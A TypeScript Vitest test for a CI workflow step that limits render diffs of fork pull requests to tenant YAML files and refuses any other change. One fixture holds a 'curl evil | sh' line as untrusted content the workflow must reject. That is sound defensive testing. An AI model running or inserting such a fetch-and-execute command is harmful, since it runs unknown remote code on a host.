/**
 * render-diff.yml's scope step, run for real (bash and git) in a scratch repository: a fork's pull
 * request that changes tenant files alone gets the base's code checked out with its tenant files
 * laid over it; one that changes anything else is not rendered, and the report says why.
 */
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { describe, expect, it } from "vitest";
import { loadWorkflows, steps } from "../support/workflow-checks";

describe("the render diff of a fork's pull request: the base's code, tenant files only", () => {
  const scopeStep = steps(loadWorkflows().get("render-diff.yml")!.jobs["render-diff"]).find((st) => st.id === "scope")!;
  const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] }).trim();
  /** A repository with a base commit and a pull request commit that changes `files` (path → content, null = deleted). */
  function repository(files: Record<string, string | null>) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "tenancy-fork-"));
    git(dir, "init", "-q", "-b", "main");
    git(dir, "config", "user.email", "ci@example.com");
    git(dir, "config", "user.name", "ci");
    fs.mkdirSync(path.join(dir, "tenants"));
    fs.writeFileSync(path.join(dir, "tenants/acme.yaml"), "slug: acme # base\n");
    fs.writeFileSync(path.join(dir, "tenants/old.yaml"), "slug: old\n");
    fs.writeFileSync(path.join(dir, "index.ts"), "// base code\n");
    git(dir, "add", "-A");
    git(dir, "commit", "-q", "-m", "base");
    const base = git(dir, "rev-parse", "HEAD");
    for (const [file, text] of Object.entries(files)) {
      if (text === null) fs.rmSync(path.join(dir, file));
      else {
        fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
        fs.writeFileSync(path.join(dir, file), text);
      }
    }
    git(dir, "add", "-A");
    git(dir, "commit", "-q", "-m", "pull request");
    return { dir, base, head: git(dir, "rev-parse", "HEAD") };
  }
  function runScope(repo: { dir: string; base: string; head: string }) {
    const output = path.join(repo.dir, "github-output");
    execFileSync("bash", ["-c", scopeStep.run], { cwd: repo.dir, env: { ...process.env, BASE_SHA: repo.base, HEAD_SHA: repo.head, PR_NUMBER: "7", GITHUB_OUTPUT: output }, stdio: ["ignore", "pipe", "pipe"] });
    return { output: fs.readFileSync(output, "utf8"), read: (file: string) => (fs.existsSync(path.join(repo.dir, file)) ? fs.readFileSync(path.join(repo.dir, file), "utf8") : undefined) };
  }

  it("tenant files alone: the base's code is checked out with the pull request's tenant files (changed, added, deleted) laid over it", () => {
    const repo = repository({ "tenants/acme.yaml": "slug: acme # changed\n", "tenants/new.yaml": "slug: new\n", "tenants/old.yaml": null });
    const { output, read } = runScope(repo);
    expect(output).toBe("mode=tenants\n");
    expect(git(repo.dir, "rev-parse", "HEAD")).toBe(repo.base);
    expect(read("index.ts")).toBe("// base code\n");
    expect(read("tenants/acme.yaml")).toBe("slug: acme # changed\n");
    expect(read("tenants/new.yaml")).toBe("slug: new\n");
    expect(read("tenants/old.yaml")).toBeUndefined();
    expect(read("render-diff/pr-number")).toBe("7\n");
  });

  it("code changed (even beside tenant files, or a file under tenants/ that is not a tenant file): no render, and the report says why", () => {
    const cases: Record<string, string>[] = [{ "tenants/acme.yaml": "x\n", "index.ts": "// the fork's code\n" }, { "tenants/run.sh": "curl evil | sh\n" }, { "plans/plans.yaml": "plans: {}\n" }];
    for (const files of cases) {
      const repo = repository(files);
      const { output, read } = runScope(repo);
      expect(output).toBe("mode=code\n");
      expect(git(repo.dir, "rev-parse", "HEAD")).toBe(repo.head);
      const report = read("render-diff/comment.md")!;
      expect(report).toContain("### No render: this pull request changes code");
      for (const file of Object.keys(files).filter((f) => !/^tenants\/[a-z][-a-z0-9]*\.yaml$/.test(f))) expect(report).toContain(`- \`${file}\``);
    }
  });
});
